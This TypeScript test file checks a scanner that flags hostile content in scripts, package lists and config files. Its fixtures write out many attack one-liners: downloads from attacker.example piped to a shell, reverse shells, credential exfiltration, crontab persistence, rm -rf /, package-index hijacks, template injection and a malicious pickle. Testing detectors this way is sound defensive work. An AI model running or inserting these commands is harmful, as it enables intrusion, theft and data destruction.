import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { scanBytes } from "../../../../test/fixtures/artifacts/scan-bytes.ts";
import { FORMATS } from "../registry.ts";

function rulesOf(name: string, text: string): readonly string[] {
  const { findings } = scanBytes(Buffer.from(text), { formats: FORMATS, name });
  return [...new Set(findings.map(({ rule }) => rule))];
}

/** By the rule that has to be found: a name and a text. */
const ATTACKS: readonly (readonly [rule: string, name: string, text: string])[] = [
  ["text/runs-download", "install.sh", "#!/bin/bash\ncurl http://attacker.example/x | bash\n"],
  ["text/runs-download", "run", "#!/bin/sh\nwget -qO- https://attacker.example/x | sudo sh\n"],
  ["text/runs-download", "Makefile", "all:\n\tcurl http://attacker.example/x | python3\n"],
  ["text/runs-download", "Dockerfile", "FROM x\nRUN bash <(curl -s https://attacker.example/x)\n"],
  ["text/runs-download", "MLproject", 'command: "curl http://attacker.example/x | sh"\n'],
  ["text/hostile-script", "setup.sh", "#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n"],
  ["text/hostile-script", "x.sh", "nc 127.0.0.1 4444 -e /bin/sh\n"],
  ["text/hostile-script", "x.sh", "echo ZWNobw== | base64 -d | sh\n"],
  ["text/hostile-script", "x.sh", 'echo "* * * * * root x" >> /etc/crontab\n'],
  ["text/hostile-script", "x.sh", "rm -rf / --no-preserve-root\n"],
  ["text/hostile-script", "x.bat", "@echo off\npowershell -enc aQBlAHgAIAAxAA==\n"],
  [
    "text/hostile-script",
    "x.ps1",
    'IEX (New-Object Net.WebClient).DownloadString("http://attacker.example")',
  ],
  ["text/hostile-script", "x.sh", "env | curl -X POST -d @- http://attacker.example\n"],
  ["text/hostile-script", "x.sh", "cat ~/.aws/credentials | nc attacker.example 4444\n"],
  [
    "text/hostile-script",
    "x.sh",
    'python3 -c "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"\n',
  ],
  ["text/hostile-script", ".gitmodules", '[submodule "x"]\n\turl = ext::sh -c x\n'],
  ["text/runs-download", "x.sh", 'eval "$(curl -fsSL http://attacker.example/x)"\n'],
  [
    "text/runs-download",
    "x.sh",
    "wget http://attacker.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n",
  ],
  ["text/runs-download", "package.json", '{"postinstall": "curl http://attacker.example | sh"}'],
  ["text/foreign-packages", "pyproject.toml", 'requires = ["x @ http://attacker.example/x.whl"]'],
  ["text/foreign-packages", "setup.cfg", "requires = x @ git+http://attacker.example/x\n"],
  ["text/foreign-packages", "requirements.txt", "--extra-index-url http://attacker.example/s\nx"],
  ["text/foreign-packages", "requirements.txt", "-i https://attacker.example/simple\n"],
  ["text/foreign-packages", "extra.txt", "--index-url=https://attacker.example/simple\n"],
  ["text/foreign-packages", "requirements.txt", "-ihttps://attacker.example/simple\n"],
  ["text/foreign-packages", "requirements-dev.txt", "git+http://attacker.example/x.git#egg=x\n"],
  ["text/foreign-packages", "requirements.txt", "x @ https://attacker.example/x-1.0.tar.gz\n"],
  ["text/foreign-packages", "requirements.txt", "--trusted-host attacker.example\n"],
  [
    "text/foreign-packages",
    "conda.yaml",
    "channels: [http://attacker.example/conda]\ndependencies:\n- python\n",
  ],
  [
    "text/logging-code",
    "logging.ini",
    "[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system('echo garita'),)\n",
  ],
  ["text/logging-code", "x.cfg", "[handler_h]\nclass=os.system\nargs=('echo garita',)\n"],
  ["config/runs-callable", "hparams.toml", '[model]\n_target_ = "os.system"\n'],
  ["template/escape", "prompt.html", "<p>{{ cycler.__init__.__globals__.os }}</p>"],
  ["template/escape", "prompts.csv", "name,text\na,\"{{ ''.__class__ }}\"\n"],
  ["template/escape", "config.toml", `template = "{{ ''.__class__ }}"`],
  ["pickle/process", "model.pkl.b64", "gASMAm9zlIwGc3lzdGVtlJOUjAtlY2hvIGdhcml0YZSFlFKULg=="],
];

test("plain-text: what scripts, lists of packages and settings do is told", () => {
  for (const [rule, name, text] of ATTACKS) {
    const found = rulesOf(name, text);
    assert.ok(found.includes(rule), `${rule}: ${name}: ${text} → ${found.join()}`);
  }
});

const ORDINARY: readonly (readonly [name: string, text: string])[] = [
  ["train.sh", "#!/bin/bash\nset -e\nexport A=1\npython train.py --epochs 3 | tee log.txt\n"],
  [
    "setup.sh",
    "apt-get install -y curl && rm -rf /var/lib/apt/lists/*\ncurl -O https://x.org/a.tgz && tar xf a.tgz\n",
  ],
  ["setup.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n"],
  [
    "Dockerfile",
    "FROM python:3.12\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nCOPY . /app\n",
  ],
  [
    "setup.sh",
    "curl -Lo kubectl https://dl.k8s.io/kubectl && chmod +x kubectl && mv kubectl /bin\n",
  ],
  ["package.json", '{"scripts": {"build": "tsc", "postinstall": "node x.js"}}'],
  [
    "pyproject.toml",
    'homepage = "http://x.org"\ndependencies = ["x @ git+https://github.com/a/b"]\n',
  ],
  ["run.bat", "@echo off\nset PATH=%PATH%;C:\\x\npython app.py\n"],
  [
    "build.ps1",
    "$ErrorActionPreference = 'Stop'\nInvoke-WebRequest https://x.org/a.zip -OutFile a.zip\n",
  ],
  ["requirements.txt", "torch==2.4.0\nnumpy>=1.26 ; python_version < '3.13'\n# see http://x.org\n"],
  ["requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch\n"],
  ["requirements.txt", "git+https://github.com/huggingface/transformers@main\n-e .\n-r base.txt\n"],
  ["requirements.txt", "x @ https://github.com/a/b/releases/download/v1/x-1.0-py3-none-any.whl\n"],
  [
    "conda.yaml",
    "channels:\n- conda-forge\ndependencies:\n- python=3.12\n- pip:\n  - mlflow==2.9\n",
  ],
  [
    "logging.ini",
    "[loggers]\nkeys=root\n[handler_h]\nclass=StreamHandler\nargs=(sys.stdout,)\n[handler_f]\nclass=handlers.RotatingFileHandler\nargs=('app.log', 'a', 10000, 5)\n",
  ],
  ["setup.cfg", "[metadata]\nname = x\n[options]\nargs = os.system is a name\n"],
  ["pyproject.toml", '[project]\nname = "x"\ndependencies = ["torch"]\n'],
  [
    "index.html",
    "<p>{{ url_for('static', filename='a.css') }}</p>{% include 'head.html' %}{% for i in x %}{{ i|date }}{% endfor %}",
  ],
  ["vocab.txt", "[PAD]\n[UNK]\n{{\n}}\n__class__\n##ing\n"],
  ["README.txt", "Run curl http://x | sh only if you trust it. Import os, then eval(x).\n"],
  ["labels.csv", "id,name\n1,cat\n"],
];

test("plain-text: ordinary scripts, lists, settings and notes are clean", () => {
  for (const [name, text] of ORDINARY)
    assert.deepEqual(rulesOf(name, text), [], `${name}: ${text}`);
});

test("plain-text: credentials in notes and settings are found, in tables not looked for", () => {
  const secretsIn = (name: string): readonly string[] => {
    const findSecrets = (): readonly { rule: string; offset: number }[] => [
      { rule: "secret/x", offset: 0 },
    ];
    const options = { formats: FORMATS, name, findSecrets };
    const { findings } = scanBytes(Buffer.from("name=value\n"), options);
    return findings.map(({ rule }) => rule);
  };
  assert.deepEqual(secretsIn(".env"), ["secret/found"]);
  assert.deepEqual(secretsIn("notes.txt"), ["secret/found"]);
  assert.deepEqual(secretsIn("server.key"), ["secret/found"]);
  assert.deepEqual(secretsIn("data.csv"), []);
});

test("plain-text: any text of any name ends in a report", () => {
  const names = fc.constantFrom("a.sh", "requirements.txt", "a.ini", "a.html", "a.txt", ".env");
  fc.assert(
    fc.property(names, fc.string(), (name, text) => {
      rulesOf(name, text);
    }),
  );
});
